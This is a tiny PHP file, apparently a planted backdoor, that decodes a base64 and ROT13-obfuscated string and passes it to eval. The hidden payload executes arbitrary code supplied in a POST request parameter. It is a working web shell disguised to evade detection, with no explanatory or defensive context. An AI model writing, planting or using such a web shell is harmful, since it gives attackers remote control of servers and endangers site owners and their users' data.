<?php
eval(str_rot13(base64_decode('cmlueSgkX0NCRkdbJ24nXSk7')));
